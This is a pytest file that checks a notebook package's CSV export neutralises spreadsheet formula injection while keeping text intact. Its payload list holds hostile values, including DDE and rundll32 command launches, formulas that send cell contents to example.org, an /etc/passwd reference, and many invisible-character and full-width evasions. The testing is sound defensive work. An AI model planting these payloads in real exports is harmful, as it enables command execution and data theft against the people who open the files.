"""No cell of a CSV file is one that a spreadsheet would run, and every text comes back."""

import csv
import re
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hitl_notebook.exchange import csv_file, read_frame, write_frame
from hitl_notebook.exchange.spreadsheet import defused, quoted_apostrophes, restored

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=IMPORTDATA("http://example.org/")',
    '=WEBSERVICE("http://example.org/")',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    " =1+1",
    "   \u00a0=1+1",
    "\t=1+1",
    "\t\t \t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\n\n\n=1+1",
    "\x00=1+1",
    "\x01\x02=1+1",
    "\x7f=1+1",
    "\x1f=1+1",
    "\x85=1+1",
    "\v=1+1",
    "\f=1+1",
    "\u200b=1+1",
    "\u200c\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\u202e=1+1",
    "\u2066@SUM(1)",
    "\u3000=1+1",
    "\u2003+1",
    "\u3164=1+1",
    "\u034f=1+1",
    "\ufe0f=1+1",
    "\U000e0020=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "⁼1+1",
    "₊1",
    "﬩1",
    "\u200b\t ＝1+1",
    "safe\n=1+1",
    "safe\r\n=1+1",
    "safe\r=1+1",
    "safe\n\t＝1+1\nsafe\n-1",
    "safe\u2028=1+1",
    "safe\u2029@x",
    "safe\x85=1+1",
    "safe;=1+1",
    "safe\t=1+1",
    'safe;"=1+1"',
    '"=1+1',
    '",=1+1',
    '"\r\n=1+1,"',
    "'=1+1",
    "''=1+1",
    "'",
    "'\n'\n=1",
    "=\ud800",
]
FILLERS = '"\u034f\u115f\u1160\u3164\ufe0f'
HARMLESS = ["", "1 - 1", "a=b", "card lost", "e-mail", "1+1", "me@example.org", "#1", "(-1)", "don't"]


def significant(text: str) -> str:
    """What is left at the front of a cell when what shows as nothing has been passed over and wide forms folded."""
    for character in text:
        folded = unicodedata.normalize("NFKC", character)
        for part in folded:
            if part.isspace() or unicodedata.category(part) in ("Cc", "Cf", "Zl", "Zp", "Zs") or part in FILLERS:
                continue
            return part
    return ""


def harmful_cells(path: Path, numbers: tuple[str, ...] = ()) -> Iterator[str]:
    """Cells that some spreadsheet would run, by this test's own reading of the file."""
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    for row in rows:
        for name, cell in zip(rows[0], row, strict=True):
            if name in numbers and row is not rows[0]:
                continue
            if any(significant(part) in set("=+-@") for part in re.split("[;\t]", "\n".join(cell.splitlines()))) or any(
                significant(line) in set("=+-@") for line in cell.splitlines()
            ):
                yield cell


def test_no_payload_is_a_formula_as_a_cell_or_as_a_header(tmp_path: Path) -> None:
    frame = pd.DataFrame([PAYLOADS] * 2, dtype=object)
    frame.columns = pd.Index(PAYLOADS, dtype=object)
    written = write_frame(frame, tmp_path / "out.csv")
    assert list(harmful_cells(written.path)) == []
    pd.testing.assert_frame_equal(read_frame(written.path), frame, check_dtype=False)


def test_the_check_sees_the_payloads_when_nothing_defuses_them(tmp_path: Path) -> None:
    dangerous = [payload for payload in PAYLOADS if not payload.startswith("'")]
    frame = pd.DataFrame({"text": dangerous}, dtype=object)
    written = write_frame(frame, tmp_path / "out.csv", defuse=False)
    assert written.defused == 0
    caught = {cell.replace("␛0000", "\0").replace("␛d800", "\ud800") for cell in harmful_cells(written.path)}
    # NUL is written as a visible character, and the other would have to break out of its cell first, which its
    # quotation mark, doubled, does not.
    assert [payload for payload in dangerous if payload not in caught] == ["\x00=1+1", '",=1+1']
    pd.testing.assert_frame_equal(read_frame(written.path), frame)


def test_harmless_text_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": HARMLESS, "number": [-1.5] * 10, "whole": range(-10, 0)})
    written = write_frame(frame, tmp_path / "out.csv")
    assert written.defused == 0
    with written.path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert rows == [[text, "-1.5", str(whole)] for text, whole in zip(HARMLESS, range(-10, 0), strict=True)]


def test_cells_and_headers_that_were_changed_are_counted(tmp_path: Path) -> None:
    frame = pd.DataFrame({"@header": ["=1", "safe", "=2", "a\n=3\n=4"]})
    assert write_frame(frame, tmp_path / "out.csv").defused == 4


def test_a_hostile_list_is_defused_inside_its_json(tmp_path: Path) -> None:
    frame = pd.DataFrame({"tokens": [["a", ";=1+1"], ["\t=2"]]})
    written = write_frame(frame, tmp_path / "out.csv")
    assert list(harmful_cells(written.path)) == []
    assert read_frame(written.path)["tokens"].tolist() == [["a", ";=1+1"], ["\t=2"]]


@pytest.mark.parametrize("first", "=+-@")
def test_every_character_that_normalises_to_a_formula_is_known(first: str) -> None:
    forms = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(code)).lstrip().startswith(first)
    ]
    assert len(forms) > 1
    assert [form for form in forms if defused(form + "1") != "'" + form + "1"] == []


def test_every_invisible_character_is_passed_over_or_begins_a_cell_anew() -> None:
    invisible = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if chr(code).isspace() or unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp", "Zs")
    ]
    assert len(invisible) > 200
    assert [c for c in invisible if defused(f"{c}=1") not in (f"'{c}=1", f"{c}'=1")] == []


@given(st.text(st.sampled_from("'=a \t;\r\n\"␛＝\u2028\x00-")) | st.text(st.characters(exclude_categories=[])))
def test_any_text_comes_back(text: str) -> None:
    assert restored(defused(text)) == text
    assert restored(quoted_apostrophes(text)) == text


@pytest.mark.parametrize(
    "text", [" " * 10**6, "\t" * 10**6, "\r\n" * 10**6, "\u200b" * 10**6, '"' * 10**6, "'" * 10**6]
)
def test_a_megabyte_of_nothing_takes_no_time_worth_naming(text: str) -> None:
    began = time.perf_counter()
    assert restored(defused(text)) == text
    assert time.perf_counter() - began < 5


@given(st.text(alphabet="aZ0 =+-@'\"\t\n\v\f\r\x1c\x1d\x1e\x85\u2028\u2029;\0\ud800␛＝,.", max_size=12))
def test_a_text_taken_for_plain_is_one_that_needs_no_escape(text):
    if csv_file._PLAIN.fullmatch(text):
        assert defused(text) == text == quoted_apostrophes(text)
        assert not csv_file._UNWRITABLE.search(text)
        assert '"' not in text


def test_ordinary_text_is_taken_for_plain():
    assert all(
        map(csv_file._PLAIN.fullmatch, ["card lost", "0198f3c2-0000-7000", "Wo ist mein Geld? (Größe: 5 €)", "it's"])
    )
